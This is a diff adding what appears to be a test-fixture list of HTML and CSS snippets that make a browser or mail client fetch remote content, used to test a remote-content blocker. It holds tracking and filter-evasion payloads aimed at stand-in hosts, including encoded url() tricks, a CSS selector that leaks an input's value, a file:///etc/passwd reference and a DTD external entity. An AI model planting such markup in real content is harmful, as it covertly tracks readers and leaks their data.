@@ -1,0 +1,202 @@
+// Markup that asks a server for something, so that it learns who reads, when and where.
+
+const picture = 'EVIL/a.png';
+
+export const requests = [
+  ['picture', `<img src="${picture}">`, 'request'],
+  ['picture without a scheme', '<img src="//HOST/a.png">', 'request'],
+  ['picture, back-slashes', '<img src="http:\\\\HOST\\a.png">', 'request'],
+  ['picture, spelt as <image>', `<image src="${picture}">`, 'request'],
+  ['srcset', `<img srcset="${picture} 1x, EVIL/b.png 2x">`, 'request'],
+  ['picture element', `<picture><source srcset="${picture}"><img></picture>`, 'request'],
+  [
+    'lazy picture',
+    `<img loading=lazy src="${picture}"><img loading=lazy lowsrc="EVIL/l" dynsrc="EVIL/d">`,
+    'request',
+  ],
+  [
+    'attribution',
+    `<img attributionsrc="EVIL/attr" src="${picture}"><a attributionsrc="EVIL/x" href="#">x</a>`,
+    'request',
+  ],
+  [
+    'background attribute',
+    `<table background="${picture}"><tr><td background="EVIL/b.png">x</td></tr></table>`,
+    'request',
+  ],
+  ['body background', `<body background="${picture}">x</body>`, 'request'],
+  ['image button', `<input type=image src="${picture}">`, 'request'],
+  ['video', '<video src="EVIL/v.mp4" poster="EVIL/p.png" autoplay></video>', 'request'],
+  [
+    'audio and track',
+    '<audio src="EVIL/a.mp3" autoplay></audio><video><track default src="EVIL/t.vtt"></video>',
+    'request',
+  ],
+  ['frame', '<iframe src="EVIL/f"></iframe>', 'request'],
+  ['object', '<object data="EVIL/o"></object><embed src="EVIL/e">', 'request'],
+  ['stylesheet', '<link rel=stylesheet href="EVIL/a.css">', 'request'],
+  [
+    'icon',
+    '<link rel=icon href="EVIL/i.ico"><link rel=apple-touch-icon href="EVIL/t.png"><link rel=manifest href="EVIL/m.json">',
+    undefined,
+  ],
+  [
+    'preload',
+    '<link rel=preload as=image href="EVIL/a.png"><link rel=modulepreload href="EVIL/a.js">',
+    'request',
+  ],
+  ['prefetch', '<link rel=prefetch href="EVIL/next"><link rel=prerender href="EVIL/p">', 'request'],
+  ['preconnect', '<link rel=preconnect href="http://HOST/">', 'connection'],
+  ['dns-prefetch', '<link rel=dns-prefetch href="//LOOKUP">', 'lookup'],
+  [
+    'dns-prefetch of links',
+    '<meta http-equiv=x-dns-prefetch-control content=on><a href="http://LOOKUP/">x</a>',
+    'lookup',
+  ],
+  ['style: @import', '<style>@import "EVIL/a.css"; @import url(EVIL/b.css);</style>', 'request'],
+  [
+    'style: @font-face',
+    '<style>@font-face{font-family:x;src:url(EVIL/f.woff)}p{font-family:x}</style><p>x</p>',
+    'request',
+  ],
+  [
+    'style: @property',
+    '<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(EVIL/a.png)}p{background:var(--x)}</style><p style="background:var(--x)">x</p>',
+    undefined,
+  ],
+  [
+    'style: @namespace and @layer',
+    '<style>@layer a{p{background:url(EVIL/a.png)}}@namespace url(EVIL/n);</style><p>x</p>',
+    'request',
+  ],
+  [
+    'style: attribute selectors',
+    '<style>input[value^=a]{background:url(EVIL/leak-a)}</style><input value=abc>',
+    'request',
+  ],
+  [
+    'style: view transition',
+    '<style>@view-transition{navigation:auto}::view-transition{background:url(EVIL/a.png)}html{background:url(EVIL/b.png)}</style>',
+    'request',
+  ],
+  [
+    'style: comment trick',
+    '<style><!-- </style><p style="background:u/**/rl(x)">--></p><style>p{background:url(EVIL/a.png)}</style>',
+    'request',
+  ],
+  ['css url()', '<p style="background:url(EVIL/a.png)">x</p>', 'request'],
+  ['css url(), escaped', '<p style="background:\\75\\72\\6c(EVIL/a.png)">x</p>', 'request'],
+  [
+    'css url(), entities',
+    '<p style="background:&#117;&#x72;l&lpar;EVIL/a.png&rpar;">x</p>',
+    'request',
+  ],
+  ['css variable', '<p style="--x:url(EVIL/a.png);background:var(--x)">x</p>', 'request'],
+  [
+    'css variable, escaped',
+    '<p style="--x:\\75rl(EVIL/a.png);background:var(--x)">x</p>',
+    'request',
+  ],
+  [
+    'css variable that is empty',
+    '<p style="background:url(EVIL/a.png) var(--none,)">x</p>',
+    'request',
+  ],
+  [
+    'css variable that is empty, escaped',
+    '<p style="background-image:\\75rl(EVIL/a.png) var(--none,)">x</p>',
+    'request',
+  ],
+  ['css env()', '<p style="background:\\75rl(EVIL/a.png) env(none,)">x</p>', 'request'],
+  ['css if()', '<p style="background-image:if(else:\\75rl(EVIL/a.png))">x</p>', undefined],
+  [
+    'css attr()',
+    '<p title="EVIL/a.png" style="background-image:image-set(attr(title))">x</p>',
+    undefined,
+  ],
+  ['css image-set()', '<p style="background-image:image-set(\'EVIL/a.png\' 1x)">x</p>', 'request'],
+  [
+    'css -webkit-image-set()',
+    '<p style="background-image:-webkit-image-set(url(EVIL/a.png) 1x)">x</p>',
+    'request',
+  ],
+  [
+    'css image-set(), escaped',
+    '<p style="background:\\69mage-set(\'EVIL/a.png\' 1x) var(--none,)">x</p>',
+    'request',
+  ],
+  [
+    'css cross-fade()',
+    '<p style="background-image:-webkit-cross-fade(url(EVIL/a.png),url(EVIL/b.png),50%)">x</p>',
+    'request',
+  ],
+  ['css src()', '<p style="background-image:src(\'EVIL/a.png\')">x</p>', undefined],
+  ['css image()', '<p style="background-image:image(\'EVIL/a.png\')">x</p>', undefined],
+  [
+    'css list-style-image',
+    '<ul><li style="list-style-image:url(EVIL/a.png)">x</li></ul>',
+    'request',
+  ],
+  ['css cursor', '<p style="cursor:url(EVIL/a.cur),auto;position:fixed;inset:0">x</p>', undefined],
+  ['css content', '<p style="content:url(EVIL/a.png)">x</p>', 'request'],
+  [
+    'css border-image',
+    '<p style="border:1px solid;border-image:url(EVIL/a.png) 30">x</p>',
+    'request',
+  ],
+  [
+    'css mask and clip-path',
+    '<p style="mask:url(EVIL/m.svg#a);clip-path:url(EVIL/c.svg#a);-webkit-mask-image:url(EVIL/w.png)">x</p>',
+    'request',
+  ],
+  [
+    'css filter',
+    '<p style="filter:url(EVIL/f.svg#a);backdrop-filter:url(EVIL/b.svg#b)">x</p>',
+    'request',
+  ],
+  ['css shape-outside', '<p style="float:left;shape-outside:url(EVIL/a.png)">x</p>', 'request'],
+  ['css offset-path', '<p style="offset-path:url(EVIL/a.svg#p)">x</p>', undefined],
+  ['css font shorthand', '<p style="font:12px x;src:url(EVIL/f.woff)">x</p>'],
+  [
+    'svg image',
+    '<svg><image href="EVIL/a.png"></image><image xlink:href="EVIL/b.png"></image></svg>',
+    'request',
+  ],
+  [
+    'svg feImage',
+    '<svg><filter id=f><feImage href="EVIL/a.png"></feImage></filter><rect filter="url(#f)" width=9 height=9></rect></svg>',
+    'request',
+  ],
+  ['svg use', '<svg><use href="EVIL/a.svg#x"></use></svg>', undefined],
+  [
+    'svg attributes',
+    '<svg><rect fill="url(EVIL/a.svg#x)" mask="url(EVIL/m.svg#x)" width=9 height=9></rect></svg>',
+    'request',
+  ],
+  [
+    'svg animates a picture',
+    '<svg><image><set attributeName=href to="EVIL/a.png"></set></image></svg>',
+    'request',
+  ],
+  ['html in svg', '<svg><foreignObject><img src="EVIL/a.png"></foreignObject></svg>', 'request'],
+  ['ping', '<a href="#x" ping="EVIL/ping" style="position:fixed;inset:0">x</a>', 'request'],
+  ['refresh', '<meta http-equiv=refresh content="0;url=EVIL/refresh">', 'request'],
+  [
+    'base',
+    '<base href="EVIL/"><img src="a.png"><a href="x" style="position:fixed;inset:0">x</a>',
+    'request',
+  ],
+  [
+    'cid: that is none',
+    '<img src="cid:none@example.org"><img src="cid://HOST/a.png"><img src="CID:x">',
+  ],
+  [
+    'blob:, filesystem: and file:',
+    '<img src="blob:http://HOST/a"><img src="filesystem:http://HOST/a"><img src="file:///etc/passwd">',
+  ],
+  ['dtd', '<!DOCTYPE html SYSTEM "EVIL/x.dtd" [<!ENTITY x SYSTEM "EVIL/e">]><p>&x;</p>'],
+  [
+    'citations and such',
+    '<blockquote cite="EVIL/q">x</blockquote><img longdesc="EVIL/l"><html manifest="EVIL/m"><head profile="EVIL/p">',
+  ],
+];
